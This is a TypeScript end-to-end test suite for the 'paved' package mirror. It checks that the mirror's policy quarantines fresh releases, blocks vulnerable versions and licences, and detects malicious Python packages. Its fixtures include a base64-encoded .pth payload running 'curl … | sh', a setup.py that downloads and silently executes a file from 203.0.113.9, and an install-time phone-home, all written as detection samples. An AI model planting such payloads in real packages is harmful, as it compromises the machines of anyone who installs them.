/**
 * Policy on a vetted mirror, end to end: a static upstream of small fake projects built during
 * the test (releases "published today", known-vulnerable versions, hand-written malicious wheels
 * and sdists), `root/pypi` mirroring it, `root/main` inheriting it, real pip installing through
 * `root/main`, and the real CLI (`paved policy …`, `paved advisories import`, `paved audit-log`)
 * on the live server. The server's clock is a function the test moves.
 */
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildSdist, buildWheel, sdistFilenameFor, wheelFilenameFor, type WheelOptions } from '../fixtures/buildDistributions.js';
import { buildMultipart } from '../fixtures/multipart.js';
import { osvAdvisory } from '../fixtures/osvData.js';
import { createVenv, describeRun, type RunResult, type Venv } from '../fixtures/pythonTools.js';
import { buildStaticIndex, serveStaticIndex, type StaticIndex, type StaticIndexServer } from '../fixtures/staticIndex.js';
import { basicToken, startTestServer, type TestServer } from '../fixtures/testServer.js';
import { jsonResult, paved } from './pavedCli.js';

const DAY = 86_400_000;
const JSON_ACCEPT = 'application/vnd.pypi.simple.v1+json';
const LONG_AGO = new Date(Date.now() - 30 * DAY);

interface JsonPage { name: string; versions?: string[]; files: { filename: string; url: string }[]; 'project-status'?: { status: string; reason?: string } }
interface Finding { rule: string; action: string; message: string; ref: string | null; file: string | null; line: number | null; until: string | null }
interface Explained { index: string; filename: string; version: string; action: string; until: string | null; approvedBy: string | null; findings: Finding[]; project?: string }
interface AuditEntry { at: string; actor: string; action: string; index: string | null; project: string | null; version: string | null; filename: string | null; reason: string | null }

/** Code run by a `.pth` file at every interpreter start: decodes a payload and executes it. */
const PTH_PAYLOAD = Buffer.from('import os\nos.system("curl -s http://203.0.113.9/x | sh")\n').toString('base64');
const MALICIOUS_PTH = `import base64; exec(base64.b64decode("${PTH_PAYLOAD}"))\n`;
/** A setup.py that downloads a program and runs it silently (download-and-execute, line 4). */
const DOWNLOADING_SETUP = [
  'from setuptools import setup',
  'import urllib.request, subprocess',
  '',
  'urllib.request.urlretrieve("http://203.0.113.9/payload", "/tmp/p")',
  'subprocess.Popen(["sh", "/tmp/p"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
  'setup(name="demo-setup", version="1.0")',
  '',
].join('\n');
/** A setup.py that only phones home (install-time-download, high: quarantined, not blocked). */
const PHONING_SETUP = ['from setuptools import setup', 'import urllib.request', '', 'urllib.request.urlopen("https://203.0.113.9/install-ping")', 'setup(name="demo-ping", version="1.0")', ''].join('\n');

describe('mirror policy end to end', () => {
  let work: string;
  let upstreamTree: StaticIndex;
  let upstream: StaticIndexServer;
  let server: TestServer;
  /** Added to the real time to make the server's clock. */
  let clockOffsetMs = 0;
  let venvCount = 0;

  const freshVenv = (): Promise<Venv> => createVenv(join(work, `venv-${venvCount++}`));
  const wheel = async (options: WheelOptions): Promise<string> => {
    const path = join(work, 'dists', wheelFilenameFor(options));
    await writeFile(path, await buildWheel(options));
    return path;
  };
  const sdist = async (name: string, version: string, setupPy: string): Promise<string> => {
    const path = join(work, 'dists', sdistFilenameFor({ name, version }));
    await writeFile(path, await buildSdist({ name, version, files: { 'setup.py': setupPy, 'pyproject.toml': '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n' } }));
    return path;
  };
  const jsonPage = async (path: string): Promise<{ status: number; page: JsonPage | null; text: string }> => {
    const res = await fetch(`${server.url}${path}`, { headers: { accept: JSON_ACCEPT } });
    const text = await res.text();
    return { status: res.status, page: res.status === 200 ? (JSON.parse(text) as JsonPage) : null, text };
  };
  const versionsOf = async (project: string): Promise<string[]> => {
    const { status, page, text } = await jsonPage(`/simple/${project}/`);
    assert.equal(status, 200, text);
    return page!.versions ?? [];
  };
  /** The file through root/main by its upstream sha256, whether or not the page lists it. */
  const requestFile = async (filename: string): Promise<{ status: number; text: string }> => {
    const entry = upstreamTree.entries.find((e) => e.filename === filename);
    assert.ok(entry !== undefined, filename);
    const res = await fetch(`${server.url}/root/main/+f/${entry.sha256}/${filename}`);
    return { status: res.status, text: res.status === 200 ? `${(await res.arrayBuffer()).byteLength} bytes` : await res.text() };
  };
  const onData = async (args: string[], expectCode = 0): Promise<RunResult> => {
    const r = await paved([...args, '--data', server.dataDir]);
    assert.equal(r.code, expectCode, describeRun(r));
    return r;
  };
  const onServer = async (args: string[], expectCode = 0): Promise<RunResult> => {
    const r = await paved([...args, '--server', server.url], { env: { PAVED_TOKEN: server.adminToken } });
    assert.equal(r.code, expectCode, describeRun(r));
    return r;
  };
  const api = async (method: string, path: string, body?: unknown): Promise<Response> =>
    fetch(`${server.url}${path}`, { method, headers: { authorization: `Bearer ${server.adminToken}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) }, ...(body === undefined ? {} : { body: JSON.stringify(body) }) });

  before(async () => {
    work = await mkdtemp(join(tmpdir(), 'paved-mirror-policy-'));
    await mkdir(join(work, 'dists'));
    const old = async (path: Promise<string>) => ({ path: await path, uploadTime: LONG_AGO });
    upstreamTree = await buildStaticIndex([
      await old(wheel({ name: 'demo-age', version: '1.0' })),
      await old(wheel({ name: 'demo-fresh', version: '1.0' })),
      await old(wheel({ name: 'demo-vuln', version: '1.0' })),
      await old(wheel({ name: 'demo-vuln', version: '1.1' })),
      await old(wheel({ name: 'demo-lone', version: '1.0' })),
      await old(wheel({ name: 'demo-pth', version: '1.0', files: { 'demo_pth/__init__.py': '', 'demo_pth_hook.pth': MALICIOUS_PTH } })),
      await old(sdist('demo-setup', '1.0', DOWNLOADING_SETUP)),
      await old(sdist('demo-ping', '1.0', PHONING_SETUP)),
      await old(wheel({ name: 'demo-deny', version: '1.0' })),
      await old(wheel({ name: 'demo-deny', version: '2.0' })),
      await old(wheel({ name: 'demo-gpl', version: '1.0', metadata: { licenseExpression: 'GPL-3.0-only', metadataVersion: '2.4' } })),
    ]);
    upstream = await serveStaticIndex(upstreamTree.dir);
    server = await startTestServer({ now: () => new Date(Date.now() + clockOffsetMs), upstream: { timeoutMs: 5000, retries: 0 } });
    await server.listen();
    // This time through the admin API (mirror.test.ts uses the CLI).
    const created = await api('POST', '/+api/indexes', { path: 'root/pypi', mirror: upstream.simpleUrl });
    assert.equal(created.status, 201, await created.text());
    const updated = await api('PATCH', '/+api/indexes/root/main', { bases: ['root/pypi'] });
    assert.equal(updated.status, 200, await updated.text());
  });
  after(async () => {
    await server?.close();
    await upstream?.close();
    await upstreamTree?.remove();
    if (work !== undefined) await rm(work, { recursive: true, force: true });
  });

  it('holds a release published today for 7 days; an approval or the passing of time lets it through', { timeout: 180_000 }, async () => {
    const venv = await freshVenv();
    const first = await venv.pip(['install', '--index-url', `${server.url}/simple/`, 'demo-age']);
    assert.equal(first.code, 0, describeRun(first));
    assert.match(first.stdout, /Successfully installed demo-age-1\.0\b/);

    // The upstream publishes 2.0 (and demo-fresh 2.0) "today". paved sees it once the page's TTL has passed.
    const today = new Date();
    await upstreamTree.add([
      { path: await wheel({ name: 'demo-age', version: '2.0' }), uploadTime: today },
      { path: await wheel({ name: 'demo-fresh', version: '2.0' }), uploadTime: today },
    ]);
    clockOffsetMs += 601_000;
    assert.deepEqual(await versionsOf('demo-age'), ['1.0']);
    assert.deepEqual(await versionsOf('demo-fresh'), ['1.0']);
    const upgrade = await venv.pip(['install', '--upgrade', '--index-url', `${server.url}/simple/`, 'demo-age']);
    assert.equal(upgrade.code, 0, describeRun(upgrade));
    assert.match(upgrade.stdout, /Requirement already satisfied: demo-age .*\(1\.0\)/);
    // Held, not missing: the file itself answers 403 with the reason.
    const held = await requestFile('demo_age-2.0-py3-none-any.whl');
    assert.equal(held.status, 403);
    assert.match(held.text, /quarantined until \d{4}-\d\d-\d\dT.* by the index policy: .*(7 days|release)/i);

    // The admin asks why, on the server (its clock), then approves with a reason.
    const explained = jsonResult<Explained[]>(await onServer(['policy', 'explain', 'root/main', 'demo-age', '2.0', '--json']));
    assert.equal(explained.length, 1);
    const [v2] = explained;
    assert.equal(v2!.action, 'quarantine');
    assert.equal(v2!.index, 'root/pypi');
    const expectedUntil = new Date(Date.parse(upstreamTree.entries.find((e) => e.filename === 'demo_age-2.0-py3-none-any.whl')!.uploadTime!) + 7 * DAY);
    assert.equal(Date.parse(v2!.until!), expectedUntil.getTime());
    assert.ok(v2!.findings.some((f) => f.rule === 'release-age' && f.action === 'quarantine' && f.until === v2!.until));
    const human = await onServer(['policy', 'explain', 'root/main', 'demo-age', '2.0']);
    assert.match(human.stdout, /QUARANTINE UNTIL \S+\s+demo_age-2\.0-py3-none-any\.whl\s+\(root\/pypi\)/);
    assert.match(human.stdout, /quarantine\s+release-age: /);

    // A decision on an index that only inherits the files would do nothing: it is refused with the owner named.
    const misplaced = await onServer(['policy', 'approve', 'root/main', 'demo-age', '2.0', '--reason', 'wrong index'], 1);
    assert.match(misplaced.stderr, /'root\/main' holds no files of demo-age; they come from root\/pypi/);
    await onServer(['policy', 'approve', 'root/pypi', 'demo-age', '2.0', '--reason', 'reviewed the 2.0 diff, ticket SEC-42']);
    assert.deepEqual(await versionsOf('demo-age'), ['1.0', '2.0']);
    const approved = await venv.pip(['install', '--upgrade', '--index-url', `${server.url}/simple/`, 'demo-age']);
    assert.equal(approved.code, 0, describeRun(approved));
    assert.match(approved.stdout, /Successfully installed demo-age-2\.0\b/);

    const log = jsonResult<AuditEntry[]>(await onData(['audit-log', '--action', 'policy.approve', '--json']));
    const entry = log.find((e) => e.project === 'demo-age');
    assert.ok(entry !== undefined, JSON.stringify(log));
    assert.equal(entry.actor, 'admin');
    assert.equal(entry.version, '2.0');
    assert.equal(entry.index, 'root/pypi');
    assert.equal(entry.reason, 'reviewed the 2.0 diff, ticket SEC-42');
    assert.match(entry.at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d/);

    // Nobody approved demo-fresh 2.0; eight days later it is through on its own.
    clockOffsetMs += 8 * DAY;
    assert.deepEqual(await versionsOf('demo-fresh'), ['1.0', '2.0']);
    const later = await (await freshVenv()).pip(['install', '--index-url', `${server.url}/simple/`, 'demo-fresh']);
    assert.equal(later.code, 0, describeRun(later));
    assert.match(later.stdout, /Successfully installed demo-fresh-2\.0\b/);
  });

  it('keeps versions with known vulnerabilities out: pip falls back to a safe version, or fails naming the advisory', { timeout: 180_000 }, async () => {
    assert.deepEqual(await versionsOf('demo-vuln'), ['1.0', '1.1']);
    const osv = join(work, 'osv');
    await mkdir(osv);
    await writeFile(join(osv, 'PYSEC-2099-1.json'), JSON.stringify(osvAdvisory('PYSEC-2099-1', 'demo-vuln', [{ introduced: '1.1' }, { fixed: '1.2' }], { database_specific: { severity: 'HIGH' } })));
    await writeFile(join(osv, 'PYSEC-2099-2.json'), JSON.stringify(osvAdvisory('PYSEC-2099-2', 'demo-lone', [{ introduced: '0' }], { database_specific: { severity: 'MODERATE' } })));
    // Imported by another process (the CLI) into the live data directory.
    const imported = jsonResult<{ imported: number }>(await onData(['advisories', 'import', osv, '--json']));
    assert.equal(imported.imported, 2);
    // The server notices new advisory data within a second.
    await new Promise((resolve) => setTimeout(resolve, 1100));

    assert.deepEqual(await versionsOf('demo-vuln'), ['1.0']);
    const venv = await freshVenv();
    const r = await venv.pip(['install', '--index-url', `${server.url}/simple/`, 'demo-vuln']);
    assert.equal(r.code, 0, describeRun(r));
    assert.match(r.stdout, /Successfully installed demo-vuln-1\.0\b/);
    const blocked = await requestFile('demo_vuln-1.1-py3-none-any.whl');
    assert.equal(blocked.status, 403);
    assert.match(blocked.text, /blocked by the index policy: known vulnerability PYSEC-2099-1 \(high/);

    // demo-lone has no safe version: pip finds nothing, the page says the project is held and why.
    const lone = await venv.pip(['install', '--index-url', `${server.url}/simple/`, 'demo-lone']);
    assert.notEqual(lone.code, 0, describeRun(lone));
    assert.match(lone.stderr, /No matching distribution found for demo-lone/);
    const page = await jsonPage('/simple/demo-lone/');
    assert.equal(page.status, 200);
    assert.deepEqual(page.page!.files, []);
    assert.equal(page.page!['project-status']?.status, 'quarantined');
    assert.match(page.page!['project-status']?.reason ?? '', /vulnerability/);
    const file = await requestFile('demo_lone-1.0-py3-none-any.whl');
    assert.equal(file.status, 403);
    assert.match(file.text, /quarantined by the index policy: known vulnerability PYSEC-2099-2 \(medium/);
    const explained = jsonResult<Explained[]>(await onData(['policy', 'explain', 'root/main', 'demo-lone', '--json']));
    assert.deepEqual(explained.map((e) => [e.action, e.findings.map((f) => f.ref)]), [['quarantine', ['PYSEC-2099-2']]]);
  });

  it('holds hand-written malicious wheels and sdists with findings that name the rule, file and line', { timeout: 180_000 }, async () => {
    // Not fetched yet, so not scanned yet: listed, and judged when pip asks for the file.
    const venv = await freshVenv();
    const r = await venv.pip(['install', '--index-url', `${server.url}/simple/`, 'demo-pth']);
    assert.notEqual(r.code, 0, describeRun(r));
    assert.match(r.stderr, /403 Client Error: demo_pth-1\.0-py3-none-any\.whl is blocked by the index policy: decode-and-execute \(critical\) at demo_pth_hook\.pth:1/);
    const check = await venv.python3(['-c', 'import importlib.util; print(importlib.util.find_spec("demo_pth"))']);
    assert.equal(check.stdout.trim(), 'None', 'nothing was installed');
    // Its page (rendered for pip before the fetch) no longer lists the file: every file is held,
    // so the project says quarantined rather than nothing.
    const pthPage = await jsonPage('/simple/demo-pth/');
    assert.deepEqual(pthPage.page!.files, [], pthPage.text);
    assert.equal(pthPage.page!['project-status']?.status, 'quarantined', pthPage.text);
    const again = await venv.pip(['install', '--index-url', `${server.url}/simple/`, 'demo-pth']);
    assert.match(again.stderr, /No matching distribution found for demo-pth/);

    const setup = await requestFile('demo_setup-1.0.tar.gz');
    assert.equal(setup.status, 403);
    assert.match(setup.text, /blocked by the index policy: download-and-execute \(critical\) at demo_setup-1\.0\/setup\.py:4/);
    const ping = await requestFile('demo_ping-1.0.tar.gz');
    assert.equal(ping.status, 403);
    assert.match(ping.text, /demo_ping-1\.0\.tar\.gz is quarantined by the index policy: install-time-download \(high\) at demo_ping-1\.0\/setup\.py:4/);
    // The benign neighbours of the same upstream pass (the corpus wheels are covered by mirror.test.ts).
    assert.equal((await requestFile('demo_vuln-1.0-py3-none-any.whl')).status, 200);

    // On the server: its clock (moved 8 days on above) decides which holds have ended.
    const queue = jsonResult<Explained[]>(await onServer(['policy', 'queue', '--json']));
    const byFile = new Map(queue.map((q) => [q.filename, q]));
    const expected: [string, string, string, string, number][] = [
      ['demo_pth-1.0-py3-none-any.whl', 'block', 'decode-and-execute', 'demo_pth_hook.pth', 1],
      ['demo_setup-1.0.tar.gz', 'block', 'download-and-execute', 'demo_setup-1.0/setup.py', 4],
      ['demo_ping-1.0.tar.gz', 'quarantine', 'install-time-download', 'demo_ping-1.0/setup.py', 4],
    ];
    for (const [filename, action, rule, member, line] of expected) {
      const entry = byFile.get(filename);
      assert.ok(entry !== undefined, `${filename} in the queue: ${JSON.stringify(queue.map((q) => q.filename))}`);
      assert.equal(entry.action, action, filename);
      assert.equal(entry.index, 'root/pypi');
      assert.ok(entry.findings.some((f) => f.rule === 'malware' && f.ref === rule && f.file === member && f.line === line), `${filename}: ${JSON.stringify(entry.findings)}`);
    }
    const human = await onServer(['policy', 'queue', 'root/pypi']);
    assert.match(human.stdout, /BLOCK\s+demo-pth demo_pth-1\.0-py3-none-any\.whl/);
    assert.match(human.stdout, /malware: decode-and-execute .*\[demo_pth_hook\.pth:1\]/);

    for (const project of ['demo-setup', 'demo-ping']) {
      const page = await jsonPage(`/simple/${project}/`);
      assert.equal(page.status, 200, page.text);
      assert.deepEqual(page.page!.files, [], `${project}: ${page.text}`);
      assert.equal(page.page!['project-status']?.status, 'quarantined', page.text);
      assert.match(page.page!['project-status']?.reason ?? '', /malware/);
    }
    const log = jsonResult<AuditEntry[]>(await onData(['audit-log', '--project', 'demo-pth', '--json']));
    assert.ok(log.some((e) => e.action === 'mirror.block' && e.actor === 'policy' && /decode-and-execute/.test(e.reason ?? '')), JSON.stringify(log));
  });

  it('refuses a malicious upload to a private index, and holds a suspicious one, naming rule and line', async () => {
    const created = await api('POST', '/+api/indexes', { path: 'acme/up' });
    assert.equal(created.status, 201);
    const token = await server.token('ci', 'upload:acme/up');
    const upload = async (filename: string, data: Buffer, name: string, version: string, filetype: string) => {
      const { body, contentType } = buildMultipart(
        [[':action', 'file_upload'], ['protocol_version', '1'], ['name', name], ['version', version], ['filetype', filetype]],
        [{ field: 'content', filename, data }],
      );
      const res = await fetch(`${server.url}/acme/up/`, { method: 'POST', headers: { authorization: basicToken(token), 'content-type': contentType }, body: new Uint8Array(body) });
      return { status: res.status, text: await res.text() };
    };

    const evil = await upload(wheelFilenameFor({ name: 'acme-evil', version: '1.0' }), await buildWheel({ name: 'acme-evil', version: '1.0', files: { 'acme_evil/__init__.py': '', 'acme_evil.pth': MALICIOUS_PTH } }), 'acme-evil', '1.0', 'bdist_wheel');
    assert.equal(evil.status, 403, evil.text);
    assert.match(evil.text, /acme_evil-1\.0-py3-none-any\.whl is refused by the index policy: decode-and-execute \(critical\) at acme_evil\.pth:1/);
    assert.equal((await jsonPage('/acme/up/simple/acme-evil/')).status, 404, 'nothing of it was kept');

    const pinging = await upload('acme_ping-1.0.tar.gz', await buildSdist({ name: 'acme-ping', version: '1.0', files: { 'setup.py': PHONING_SETUP.replace('demo-ping', 'acme-ping') } }), 'acme-ping', '1.0', 'sdist');
    assert.equal(pinging.status, 200, pinging.text);
    assert.match(pinging.text, /held for review: install-time-download \(high\) at acme_ping-1\.0\/setup\.py:4/);
    const page = await jsonPage('/acme/up/simple/acme-ping/');
    assert.deepEqual(page.page!.files, []);
    assert.equal(page.page!['project-status']?.status, 'quarantined');

    const log = jsonResult<AuditEntry[]>(await onData(['audit-log', '--index', 'acme/up', '--json']));
    assert.deepEqual(log.map((e) => [e.action, e.actor, e.project]).sort(), [['upload.block', 'ci', 'acme-evil'], ['upload.quarantine', 'ci', 'acme-ping']]);
  });

  it('paved policy set takes a TOML policy, show round-trips it, and a bad file is refused naming the key path', { timeout: 120_000 }, async () => {
    assert.deepEqual(await versionsOf('demo-deny'), ['1.0', '2.0']);
    const policyText = [
      'version = 1',
      'deny = [{ project = "demo-deny", specifier = "<2", reason = "broken before 2.0" }]',
      '',
      '[licenses]',
      'enabled = true',
      'deny = ["GPL-*"]',
      'action = "block"',
      '',
    ].join('\n');
    const file = join(work, 'policy.toml');
    await writeFile(file, policyText);
    const set = jsonResult<{ version: number; format: string }>(await onData(['policy', 'set', 'root/pypi', file, '--json']));
    assert.deepEqual([set.version, set.format], [1, 'toml']);
    const shown = jsonResult<{ version: number; text: string; format: string }>(await onData(['policy', 'show', 'root/pypi', '--json']));
    assert.deepEqual([shown.version, shown.format, shown.text], [1, 'toml', policyText]);

    assert.deepEqual(await versionsOf('demo-deny'), ['2.0']);
    const denied = await requestFile('demo_deny-1.0-py3-none-any.whl');
    assert.equal(denied.status, 403);
    assert.match(denied.text, /blocked by the index policy: .*broken before 2\.0/);
    const venv = await freshVenv();
    const pinned = await venv.pip(['install', '--index-url', `${server.url}/simple/`, 'demo-deny<2']);
    assert.notEqual(pinned.code, 0, describeRun(pinned));
    assert.match(pinned.stderr, /No matching distribution found for demo-deny<2/);
    const gpl = await requestFile('demo_gpl-1.0-py3-none-any.whl');
    assert.equal(gpl.status, 403);
    assert.match(gpl.text, /blocked by the index policy: .*GPL-3\.0-only/);
    // Held files are never stored, but their metadata is kept with the scan: the licence verdict
    // sticks, the file stays off the page and answers 403 again.
    assert.deepEqual(await versionsOf('demo-gpl'), []);
    assert.equal((await requestFile('demo_gpl-1.0-py3-none-any.whl')).status, 403);

    const bad = join(work, 'bad-policy.toml');
    await writeFile(bad, 'version = 1\ndeny = ["demo-deny", "demo-x>=1,<"]\n\n[release-age]\nmin_days = 3\n');
    const refused = await onData(['policy', 'set', 'root/pypi', bad], 1);
    assert.match(refused.stderr + refused.stdout, /deny\[1\]/);
    assert.match(refused.stderr + refused.stdout, /release-age\.min_days: unknown key; did you mean "min-days"\?/);
    const still = jsonResult<{ version: number; text: string }>(await onData(['policy', 'show', 'root/pypi', '--json']));
    assert.deepEqual([still.version, still.text], [1, policyText]);
    assert.deepEqual(await versionsOf('demo-deny'), ['2.0']);

    // The same policy as YAML, through the admin API this time: a new version, by the token's user.
    const yamlText = 'version: 1\ndeny:\n  - project: demo-deny\n    specifier: "<2"\n    reason: broken before 2.0\nlicenses:\n  enabled: true\n  deny: [GPL-*]\n  action: block\n';
    const yamlFile = join(work, 'policy.yaml');
    await writeFile(yamlFile, yamlText);
    await onServer(['policy', 'set', 'root/pypi', yamlFile]);
    const v2 = jsonResult<{ version: number; text: string; format: string; author: string }>(await onServer(['policy', 'show', 'root/pypi', '--json']));
    assert.deepEqual([v2.version, v2.format, v2.text, v2.author], [2, 'yaml', yamlText, 'admin']);
    const v1 = jsonResult<{ text: string }>(await onServer(['policy', 'show', 'root/pypi', '--policy-version', '1', '--json']));
    assert.equal(v1.text, policyText);
    assert.deepEqual(await versionsOf('demo-deny'), ['2.0']);

    const log = jsonResult<AuditEntry[]>(await onData(['audit-log', '--action', 'policy.set', '--json']));
    assert.deepEqual(log.map((e) => [e.actor.startsWith('local:') ? 'local' : e.actor, e.index]), [['admin', 'root/pypi'], ['local', 'root/pypi']]);
  });
});
